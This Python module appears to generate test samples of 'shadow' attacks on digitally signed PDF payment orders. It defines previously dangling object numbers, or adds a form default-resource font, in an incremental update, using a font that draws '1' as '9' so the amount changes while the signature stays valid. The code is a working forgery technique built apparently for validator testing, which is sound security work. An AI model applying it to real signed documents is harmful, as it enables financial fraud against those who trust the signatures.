"""Object numbers the signed revision leaves undefined, and form default resources.

pyHanko's incremental writer starts numbering one past the old /Size, so every revision it
writes leaves one number undefined; poppler's ``pdfsig`` reuses the lowest free number for the
font it adds to /AcroForm /DR (``tool_pdfsig_font_rewrite``).  Defining a number nobody used is
a new object — but not when the signed revision already *points* at it: a dangling reference
resolves to null when signing (viewers fall back to a default font), and a later definition
brings it to life, which is how these samples change the amount without touching a signed
object.  The last one adds to /DR the font a visible, appearance-less field of the signed
revision names in its /DA, so viewers redraw it with the attacker's glyphs.
"""

from __future__ import annotations

from . import bases as B
from . import rawpdf as R
from .kit import Kit, sample

NINE_FOR_ONE = (  # draws code '1' as the glyph 'nine' (see shadow_replace_font)
    b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica"
    b"/Encoding<</Type/Encoding/BaseEncoding/WinAnsiEncoding/Differences[49/nine]>>>>"
)
GAP = 8  # the first number pyHanko skips when it signs a document of objects 1..7
BEYOND = 40  # far past any number the signed revision uses


def _order_with_dangling_font(num: int) -> bytes:
    """The payment order whose amount line uses /F3 → ``num`` 0 R, an object never defined."""
    content = B.order_content(None) + f"BT /F3 16 Tf 40 250 Td {R.pdf_text(B.HONEST)} Tj ET\n"
    page = (f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 {B.PAGE_W} {B.PAGE_H}]"
            f"/Resources<</Font<</F1 5 0 R/F2 6 0 R/F3 {num} 0 R>>>>/Contents 4 0 R>>")
    objs = [
        (1, b"<</Type/Catalog/Pages 2 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, page.encode()),
        (4, R.stream(content)),
        (5, B.HELVETICA.encode()),
        (6, B.HELVETICA.encode()),
        (7, B.INFO.encode()),
    ]
    return R.build(objs, root=1, info=7).data


@sample("gap_dangling_font")
def gap_dangling_font(kit: Kit) -> bytes:
    """The signed page points at object 8, which pyHanko's signature leaves undefined (below
    /Size); the update defines it as a font drawing '1' as '9'."""
    signed = kit.once("dangling-gap", lambda: kit.sign(_order_with_dangling_font(GAP),
                                                       "--field", "Seal1"))
    if R.classic_offsets(signed).get(GAP) is not None:
        raise ValueError(f"object {GAP} is defined in the signed revision: no gap to fill")
    return R.append_update(signed, [(GAP, NINE_FOR_ONE)])


@sample("dangling_font_beyond_size")
def dangling_font_beyond_size(kit: Kit) -> bytes:
    """As gap_dangling_font, with a number past the signed revision's /Size."""
    signed = kit.once("dangling-beyond", lambda: kit.sign(_order_with_dangling_font(BEYOND),
                                                          "--field", "Seal1"))
    return R.append_update(signed, [(BEYOND, NINE_FOR_ONE)])


def _form_drawn_from_da() -> bytes:
    """The order with the amount in a visible text field without an appearance stream, drawn
    from its /DA ``/Xf 16 Tf`` — a font /DR does not have yet (viewers fall back)."""
    ax0, ay0, ax1, ay1 = B.AMOUNT_FIELD
    content = B.order_content(None) + f"BT /F2 16 Tf 40 250 Td {R.pdf_text('Amount: CNY')} Tj ET\n"
    objs = [
        (1, b"<</Type/Catalog/Pages 2 0 R/AcroForm 8 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, (f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 {B.PAGE_W} {B.PAGE_H}]"
             f"/Resources<</Font<</F1 5 0 R/F2 6 0 R>>>>/Contents 4 0 R/Annots[9 0 R]>>").encode()),
        (4, R.stream(content)),
        (5, B.HELVETICA.encode()),
        (6, B.HELVETICA.encode()),
        (7, B.INFO.encode()),
        (8, b"<</Fields[9 0 R]/DR<</Font<</Helv 6 0 R>>>>/NeedAppearances true>>"),
        (9, (f"<</FT/Tx/T(amount)/V{R.pdf_text(B.HONEST_VALUE)}/DA(/Xf 16 Tf 0 g)/Type/Annot"
             f"/Subtype/Widget/Rect[{ax0} {ay0} {ax1} {ay1}]/F 4/P 3 0 R>>").encode()),
    ]
    return R.build(objs, root=1, info=7).data


@sample("dr_font_for_signed_field")
def dr_font_for_signed_field(kit: Kit) -> bytes:
    """/DR gains /Xf, the font the untouched "amount" field's /DA names: every viewer that
    draws the field from /DA now uses a font that shows '1,000.00' as '9,000.00'."""
    signed = kit.once("da-form", lambda: kit.sign(_form_drawn_from_da(), "--field", "Seal1"))
    form, font = 8, R.read_trailer(signed).size
    acroform = R.object_body(signed, R.classic_offsets(signed)[form])
    grown = acroform.replace(b"/Helv 6 0 R", b"/Helv 6 0 R/Xf %d 0 R" % font, 1)
    if grown == acroform:
        raise ValueError("the signed /AcroForm has no /DR /Font /Helv entry")
    return R.append_update(signed, [(form, grown), (font, NINE_FOR_ONE)])
